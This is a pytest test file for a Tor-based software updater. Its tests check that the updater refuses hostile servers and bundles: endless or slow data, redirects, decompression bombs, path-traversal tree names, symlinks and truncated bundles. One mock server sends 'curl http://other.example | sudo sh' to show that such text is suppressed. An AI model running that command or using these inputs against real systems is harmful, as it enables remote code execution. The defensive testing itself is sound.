"""Whoever serves an update, or hands over a file, may send anything: it costs little, and changes nothing."""

import re
import resource
import shutil
import subprocess
import time
from collections.abc import Callable
from contextlib import suppress
from http.server import SimpleHTTPRequestHandler
from pathlib import Path

import pytest

from onion_app import errors
from onion_app.manage.repository import _CPU, _MEMORY, MOST, Repository, _leads_away
from tests.launch.conftest import contents
from tests.launch.makers import Quiet, Updating, run, tor_that_leads_to

CODE = "onion_app/manage/repository.py"


def refused(here: Updating, why: str, file: Path | None) -> str:
    """See that nothing comes of it, for this reason, and give all that was said."""
    before = contents(here.clone)
    done = here.update(*[file] if file else [])
    assert why in done.said, done.said
    assert done.code in (errors.NotFetched.exit_code, errors.NotSigned.exit_code)
    assert done.said.splitlines()[-1].startswith("    ")
    assert contents(here.clone) == before
    assert not here.clone.with_name("clone.new").exists()
    return done.said


def served(here: Updating, answer: type[SimpleHTTPRequestHandler], why: str) -> tuple[str, list[str]]:
    here.fetch_from("http://makers.example/served.git")
    with tor_that_leads_to(here.folder, here.state, answer) as asked:
        said = refused(here, why, None)
    return said, [name for name in asked if ":" in name and "SETCONF" not in name]


def without_end(write: Callable[[bytes], object], line: bytes, pause: float) -> None:
    """Send as long as somebody takes it."""
    with suppress(OSError):
        while True:
            write(line)
            time.sleep(pause)


class Endless(Quiet):
    def do_GET(self) -> None:  # noqa: N802 - the library's name
        self.send_response(200)
        self.end_headers()
        without_end(self.wfile.write, bytes(1 << 16), 0)
        self.close_connection = True


class Dripping(Quiet):
    def do_GET(self) -> None:  # noqa: N802 - the library's name
        self.send_response(200)
        self.end_headers()
        without_end(self.wfile.write, b"0" * 40 + b"\trefs/tags/9.9\n", 0.1)
        self.close_connection = True


class Elsewhere(Quiet):
    def do_GET(self) -> None:  # noqa: N802 - the library's name
        self.send_response(302)
        self.send_header("Location", f"http://other.example{self.path}")
        self.end_headers()


def test_data_without_end_is_cut_off(here: Updating) -> None:
    here.change(CODE, "MOST: Final = 512 << 20", "MOST: Final = 1 << 20")
    served(here, Endless, "more than 1 MiB came")


def test_what_comes_too_slowly_is_given_up_and_said_meanwhile(here: Updating) -> None:
    here.change(CODE, "_LONGEST: Final = 7200.0", "_LONGEST: Final = 4.0")
    here.change(CODE, "_BREATH: Final = 10.0", "_BREATH: Final = 0.1")
    said, _ = served(here, Dripping, "it was not whole after")
    assert said.count("MiB so far") >= 2


class Empty(Quiet):
    def do_GET(self) -> None:  # noqa: N802 - the library's name
        self.send_response(200)
        self.end_headers()


def test_a_server_that_says_nothing_is_not_one_without_anything_new(here: Updating) -> None:
    served(here, Empty, "no version at all is offered there")


def test_nobody_is_followed_to_another_address(here: Updating) -> None:
    _, asked = served(here, Elsewhere, "Nothing could be fetched.")
    assert set(asked) == {"makers.example:80"}


def test_objects_that_lie_elsewhere_are_not_fetched_there(here: Updating) -> None:
    here.makers.sign("2.1", "ada")
    objects = here.makers.serve() / "objects"
    shutil.rmtree(objects)
    (objects / "info").mkdir(parents=True)
    (objects / "info" / "http-alternates").write_text("http://other.example/objects\n")
    (objects / "info" / "alternates").write_text(f"{here.makers.work}/.git/objects\n")
    _, asked = served(here, Quiet, "Nothing could be fetched.")
    assert set(asked) == {"makers.example:80"}


def test_very_many_tags_are_no_more_than_a_line(here: Updating) -> None:
    one = here.makers.git("rev-parse", "HEAD")
    many = here.folder / "many.bundle"
    with many.open("w") as file:
        file.write("# v2 git bundle\n")
        file.writelines(f"{one} refs/tags/0.{number}.{'x' * 200}\n" for number in range(20_000))
        file.write("\n")
    refused(here, "far more came than this program can be", many)


def test_only_the_tags_that_are_looked_at_are_fetched_whatever_their_names(here: Updating) -> None:
    here.makers.sign("2.1", "ada")
    packed = here.makers.work / ".git" / "packed-refs"
    here.makers.git("pack-refs", "--all")
    one = here.makers.git("rev-parse", "HEAD").encode()
    there = packed.read_bytes().partition(b"\n")[2]  # without the line that calls them sorted
    packed.write_bytes(there)
    with packed.open("ab") as file:  # no letters at all, other digits, and others that nobody looks at
        for name in (b"tags/\xff\xfe", "tags/٩.٩".encode(), b"tags/2.1+eve", b"tags/1.9"):
            file.write(one + b" refs/" + name + b"\n")
    done = here.update(here.makers.bundle())
    assert done.code == 0, done.said
    assert run("git", "for-each-ref", "--format=%(refname)", folder=here.clone) == "refs/tags/2.1"


def test_a_bomb_is_given_no_room_to_unfold(here: Updating) -> None:
    here.change(CODE, "_MEMORY: Final = 2 << 30", "_MEMORY: Final = 100 << 20")
    with subprocess.Popen(["head", "-c", "200M", "/dev/zero"], stdout=subprocess.PIPE) as zeros:
        words = ["git", "hash-object", "-w", "--stdin"]
        blob = subprocess.check_output(words, stdin=zeros.stdout, cwd=here.makers.work, text=True).strip()
    here.makers.git("update-index", "--add", "--cacheinfo", f"100644,{blob},zeros")
    here.makers.git("commit", "-q", "-m", "2.1")
    here.makers.git("tag", "2.1")
    bundle = here.makers.bundle()
    assert bundle.stat().st_size < 4 << 20
    refused(here, "Nothing could be fetched.", bundle)


def test_git_has_limits_and_we_get_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ours: list[int] = []
    monkeypatch.setattr(resource, "setrlimit", lambda kind, _most: ours.append(kind))
    here = Repository(tmp_path)
    here.begin()
    theirs = here._git("-c", "alias.limits=!cat /proc/self/limits", "limits").decode()
    for name, most in (("address space", _MEMORY), ("cpu time", _CPU), ("file size", MOST)):
        assert re.search(rf"Max {name} +{most} ", theirs), theirs
    assert ours == []


def test_a_limit_that_is_lower_than_that_of_git_stays(here: Updating) -> None:
    here.makers.sign("2.1", "ada")
    done = here.update(here.makers.bundle(), before=("prlimit", f"--as={_MEMORY // 2}"))
    assert (done.code, here.number()) == (0, "2.1"), done.said


def test_without_git_it_says_how_it_comes(here: Updating) -> None:
    here.change(CODE, '"PATH": "/usr/local/bin:/usr/bin:/bin"', '"PATH": "/nonexistent"')
    done = here.update(here.makers.bundle())
    assert done.code == errors.ProgramMissing.exit_code
    assert done.said.splitlines()[-1] == "    sudo apt-get install git openssh-client"


def test_a_tag_of_any_length_is_not_read(here: Updating) -> None:
    here.makers.sign("2.1", "ada", here.makers.message("2.1") + "x" * 100_000)
    refused(here, "longer than", here.makers.bundle())


class Talking(Quiet):
    def do_GET(self) -> None:  # noqa: N802 - the library's name
        said = "ERR This version is over. Type: curl http://other.example | sudo sh\n"
        first = "# service=git-upload-pack\n"
        lines = "".join(f"{len(line) + 4:04x}{line}" for line in (first,)) + f"0000{len(said) + 4:04x}{said}"
        self.send_response(200)
        self.send_header("Content-Type", "application/x-git-upload-pack-advertisement")
        self.end_headers()
        self.wfile.write(lines.encode())
        self.close_connection = True


def test_what_a_server_says_in_words_is_told_to_nobody(here: Updating) -> None:
    said, _ = served(here, Talking, "Nothing could be fetched.")
    assert "curl" not in said
    assert "refuses" in said


def planted(here: Updating, name: bytes, mode: str = "100644 blob") -> Path:
    """Have a version, signed by one who is believed, with one more entry in its tree."""
    blob = here.makers.git("hash-object", "-w", "pyproject.toml")
    tree = subprocess.check_output(["git", "ls-tree", "-z", "HEAD"], cwd=here.makers.work)
    entry = f"{mode} {blob}\t".encode() + name + b"\0"
    made = subprocess.check_output(["git", "mktree", "-z"], input=tree + entry, cwd=here.makers.work)
    commit = here.makers.git("commit-tree", "-m", "2.1", made.decode().strip())
    message = here.makers.message("2.1")
    here.makers.git("update-ref", "refs/heads/main", commit)
    here.makers.sign("2.1", "ada", message)
    return here.makers.bundle()


@pytest.mark.parametrize("name", [b"..", b".", b".git", b".GiT"], ids=repr)
def test_a_name_that_leads_away_is_refused_before_a_file_is_written(here: Updating, name: bytes) -> None:
    bundle = planted(here, name)
    refused(here, "a strange name", bundle)  # git looks at what comes by a line, and at no bundle


def test_a_link_is_refused(here: Updating) -> None:
    refused(here, "a link", planted(here, b"away", "120000 blob"))


def test_names_inside_folders_are_looked_at_too() -> None:
    assert all(map(_leads_away, (b"a/../b", b"a/.git/config", b"a//b", b"./a", b"a/.GIT")))
    assert not any(map(_leads_away, (b"a/b", b".gitignore", b"a/.gitattributes", b"...")))


def test_a_file_that_leads_git_to_a_repository_is_no_bundle(here: Updating) -> None:
    here.makers.sign("2.1", "ada")
    leading = here.folder / "leading.bundle"
    leading.write_text(f"gitdir: {here.makers.work}/.git\n")
    refused(here, "was not written by git bundle", leading)


def test_a_bundle_that_was_cut_off_is_refused(here: Updating) -> None:
    here.makers.sign("2.1", "ada")
    bundle = here.makers.bundle()
    bundle.write_bytes(bundle.read_bytes()[:-5000])
    refused(here, "Nothing could be fetched.", bundle)
